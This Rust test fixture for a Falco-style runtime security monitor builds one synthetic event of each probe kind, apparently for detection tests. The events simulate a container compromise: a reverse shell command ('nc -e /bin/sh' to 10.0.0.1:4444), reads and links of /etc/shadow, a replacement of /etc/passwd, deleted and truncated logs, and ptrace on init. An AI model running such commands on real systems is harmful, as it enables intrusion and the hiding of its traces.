//! Test fixture: one event of every kind the probes emit (every [`EventBody`] and every
//! [`PrivOp`]), attributed like the pipeline attributes them, for tests of the Falco view.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::time::{Duration, UNIX_EPOCH};

use habit_probes::event::SeqRecord;
use habit_probes::{Event, EventBody, FileChange, FileOp, Header, PrivOp, Protocol};
use habit_profiles::workload::ImageRef;

use crate::attribution::{ContainerInfo, Workload};
use crate::falco::fields::RuleEvent;
use crate::falco::output::Attributed;
use crate::metrics::Metrics;
use crate::process::paths::{absolute_path, second_path};
use crate::process::table::ProcTable;

/// The event's process, its parent and grandparent.
pub const PID: u32 = 4242;
pub const PPID: u32 = 4200;
const GPPID: u32 = 4100;

/// A label for each kind of event; the `match` has no wildcard, so a new kind of event or of
/// privileged operation does not compile until the fixture covers it.
pub fn kind(body: &EventBody) -> &'static str {
    match body {
        EventBody::Exec { .. } => "exec",
        EventBody::Fork { .. } => "fork",
        EventBody::Exit { .. } => "exit",
        EventBody::Open { .. } => "open",
        EventBody::Chmod { .. } => "chmod",
        EventBody::Connect { .. } => "connect",
        EventBody::Accept { .. } => "accept",
        EventBody::Bind { .. } => "bind",
        EventBody::Listen { .. } => "listen",
        EventBody::Dup { .. } => "dup",
        EventBody::Sequence(_) => "sequence",
        EventBody::FileChange(c) => c.op.name(),
        EventBody::Privileged(op) => match op {
            PrivOp::SetUid { .. } => "setuid",
            PrivOp::SetGid { .. } => "setgid",
            PrivOp::Capset => "capset",
            PrivOp::Ptrace { .. } => "ptrace",
            PrivOp::Mount { .. } => "mount",
            PrivOp::Umount { .. } => "umount",
            PrivOp::Unshare { .. } => "unshare",
            PrivOp::Setns { .. } => "setns",
            PrivOp::InitModule => "init_module",
            PrivOp::FinitModule { .. } => "finit_module",
            PrivOp::MemfdCreate { .. } => "memfd_create",
            PrivOp::Bpf { .. } => "bpf",
            PrivOp::PacketSocket { .. } => "packet_socket",
        },
    }
}

/// Every label [`kind`] gives.
pub const KINDS: &[&str] = &[
    "exec",
    "fork",
    "exit",
    "open",
    "chmod",
    "connect",
    "accept",
    "bind",
    "listen",
    "dup",
    "sequence",
    "rename",
    "unlink",
    "rmdir",
    "link",
    "symlink",
    "truncate",
    "chown",
    "utimes",
    "setuid",
    "setgid",
    "capset",
    "ptrace",
    "mount",
    "umount",
    "unshare",
    "setns",
    "init_module",
    "finit_module",
    "memfd_create",
    "bpf",
    "packet_socket",
];

fn header(tgid: u32, ppid: u32, comm: &str) -> Header {
    Header {
        ts_boot_ns: 1_000_000_000,
        cpu: 0,
        pid: tgid,
        tgid,
        ppid,
        uid: 0,
        gid: 0,
        mntns: 4026531840,
        cgroup_id: 77,
        comm: comm.into(),
    }
}

/// A file change by syscall `syscall`: `path` (relative to `base_dir` when that is set) and
/// `path2` (relative to `base_dir2`).
fn change(
    op: FileOp,
    syscall: u32,
    path: &str,
    base_dir: &str,
    path2: &str,
    arg: u64,
) -> EventBody {
    EventBody::FileChange(FileChange {
        op,
        syscall,
        path: path.into(),
        dirfd: if base_dir.is_empty() { -100 } else { 3 },
        base_dir: base_dir.into(),
        path2: path2.into(),
        dirfd2: -100,
        base_dir2: String::new(),
        arg,
    })
}

/// An execve of `filename`, which the kernel's dentries name `exe_path`.
fn exec(filename: &str, exe_path: &str, argv: &[&str]) -> EventBody {
    EventBody::Exec {
        filename: filename.into(),
        exe_path: exe_path.into(),
        argv: argv.iter().map(|a| a.to_string()).collect(),
        argv_truncated: false,
        cgroup_v1_name: String::new(),
        loginuid: u32::MAX,
        tty: 34816,
        cap_effective: (1 << 21) | 1,
        cap_permitted: (1 << 21) | 1,
    }
}

fn addr(s: &str) -> SocketAddr {
    s.parse().unwrap_or_else(|e| panic!("{s}: {e}"))
}

/// A process table, a container workload and one event of every kind by process [`PID`] (a
/// busybox `nc` run through `/proc/self/exe`, so that its comm is `exe`), child of `sh`,
/// grandchild of `httpd`.
pub struct Fixture {
    pub procs: ProcTable,
    pub workload: Workload,
    pub events: Vec<Event>,
    _metrics: Metrics,
}

impl Fixture {
    pub fn new() -> Self {
        let metrics = Metrics::new().unwrap_or_else(|e| panic!("{e}"));
        let mut procs = ProcTable::new(16, &metrics);
        for (pid, ppid, comm, path, argv) in [
            (GPPID, 1, "httpd", "/usr/sbin/httpd", &["httpd", "-f"][..]),
            (
                PPID,
                GPPID,
                "sh",
                "/bin/sh",
                &["sh", "-c", "nc -e /bin/sh"][..],
            ),
            (
                PID,
                PPID,
                "exe",
                "/bin/busybox",
                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"][..],
            ),
        ] {
            let ev = Event {
                header: header(pid, ppid, comm),
                body: exec(path, path, argv),
            };
            procs.apply(&ev, path);
        }
        let mut labels = BTreeMap::new();
        for (k, v) in [
            ("io.kubernetes.pod.namespace", "shop"),
            ("io.kubernetes.pod.name", "web-7d9f8c6b5-x2x4q"),
            (
                "io.kubernetes.pod.uid",
                "6f1c1c8e-5a0e-4c55-9d3e-2b1f0e9a7c11",
            ),
            ("app", "web"),
        ] {
            labels.insert(k.to_string(), v.to_string());
        }
        let image_ref = ImageRef::parse_normalized("nginx:1.25").unwrap_or_else(|e| panic!("{e}"));
        let mut info = ContainerInfo::new(
            "3ad7c1e2b9f0".repeat(5) + "abcd",
            "shop-web",
            "nginx:1.25",
            image_ref,
            labels,
        );
        info.image_digest = Some(format!("sha256:{}", "ab".repeat(32)));
        info.k8s_pod_labels.insert("app".into(), "web".into());
        let workload = Workload::container(info);

        let bodies = vec![
            exec(
                "/proc/self/exe",
                "/bin/busybox",
                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            ),
            EventBody::Fork { child_pid: 4343 },
            EventBody::Exit { status: 256 },
            EventBody::Open {
                dirfd: -100,
                path: "shadow".into(),
                base_dir: "/etc".into(),
                flags: 0o1 | 0o100 | 0o1000,
                mode: 0o644,
                result: 3,
            },
            // A failed open: fd.num -1, evt.res the errno's name.
            EventBody::Open {
                dirfd: -100,
                path: "/etc/shadow".into(),
                base_dir: String::new(),
                flags: 0,
                mode: 0,
                result: -13,
            },
            EventBody::Chmod {
                dirfd: -100,
                path: "/tmp/x".into(),
                base_dir: String::new(),
                mode: 0o4755,
            },
            EventBody::Connect {
                remote: addr("10.0.0.1:4444"),
                protocol: Protocol::Tcp,
                result: -115,
            },
            EventBody::Connect {
                remote: addr("[2001:db8::1]:53"),
                protocol: Protocol::Udp,
                result: 0,
            },
            EventBody::Accept {
                local: addr("172.17.0.2:80"),
                remote: addr("172.17.0.1:51234"),
            },
            EventBody::Bind {
                local: addr("0.0.0.0:8080"),
                protocol: Protocol::Tcp,
                result: 0,
            },
            EventBody::Listen {
                local: addr("[::]:8080"),
            },
            EventBody::Dup {
                local: addr("172.17.0.2:40312"),
                remote: addr("10.0.0.1:4444"),
                protocol: Protocol::Tcp,
                oldfd: 3,
                newfd: 0,
                syscall: 33,
            },
            EventBody::Sequence(SeqRecord {
                gram: 0,
                nsys: 6,
                known_sum: 0,
                unknown: 1,
                flags: 0,
                wid: 1,
            }),
            change(FileOp::Rename, 316, ".passwd.new", "/etc", "/etc/passwd", 0),
            change(FileOp::Unlink, 263, "auth.log", "/var/log", "", 0),
            change(FileOp::Rmdir, 84, "/var/log/app", "", "", 0),
            change(FileOp::Link, 86, "/etc/shadow", "", "/tmp/sh", 0),
            change(FileOp::Symlink, 266, "/etc/shadow", "", "/tmp/s", 0),
            change(FileOp::Truncate, 77, "", "/var/log/syslog", "", 0),
            change(
                FileOp::Chown,
                92,
                "/etc/shadow",
                "",
                "",
                (1000 << 32) | 0xffff_ffff,
            ),
            change(FileOp::Utimes, 280, "/usr/bin/sshd", "", "", 0),
            EventBody::Privileged(PrivOp::SetUid {
                ruid: u32::MAX,
                euid: 0,
                suid: u32::MAX,
            }),
            EventBody::Privileged(PrivOp::SetGid {
                rgid: 0,
                egid: 0,
                sgid: 0,
            }),
            EventBody::Privileged(PrivOp::Capset),
            EventBody::Privileged(PrivOp::Ptrace {
                request: 16,
                target_pid: 1,
            }),
            EventBody::Privileged(PrivOp::Mount {
                target: "/mnt".into(),
                flags: 4096,
            }),
            EventBody::Privileged(PrivOp::Umount {
                target: "/mnt".into(),
            }),
            EventBody::Privileged(PrivOp::Unshare { flags: 0x2000_0000 }),
            EventBody::Privileged(PrivOp::Setns { nstype: 0 }),
            EventBody::Privileged(PrivOp::InitModule),
            EventBody::Privileged(PrivOp::FinitModule { fd: 3 }),
            EventBody::Privileged(PrivOp::MemfdCreate {
                name: "payload".into(),
            }),
            EventBody::Privileged(PrivOp::Bpf { cmd: 5 }),
            EventBody::Privileged(PrivOp::PacketSocket {
                sock_type: 3,
                protocol: 768,
            }),
        ];
        let events = bodies
            .into_iter()
            .map(|body| Event {
                header: header(PID, PPID, "exe"),
                body,
            })
            .collect();
        Self {
            procs,
            workload,
            events,
            _metrics: metrics,
        }
    }

    /// Calls `f` with each event as the pipeline presents it to rules and outputs.
    pub fn each(&self, mut f: impl FnMut(&Event, &RuleEvent<'_>)) {
        for ev in &self.events {
            let path = absolute_path(ev);
            let path2 = second_path(ev);
            let attributed = Attributed {
                event: ev,
                workload: &self.workload,
                process: self.procs.get(ev.header.tgid).map(|p| &**p),
                path: path.as_deref(),
                path2: path2.as_deref(),
                time: UNIX_EPOCH + Duration::from_secs(1_700_000_000),
            };
            let view = RuleEvent {
                attributed: &attributed,
                procs: &self.procs,
                exe_written_by_container: true,
            };
            f(ev, &view);
        }
    }
}
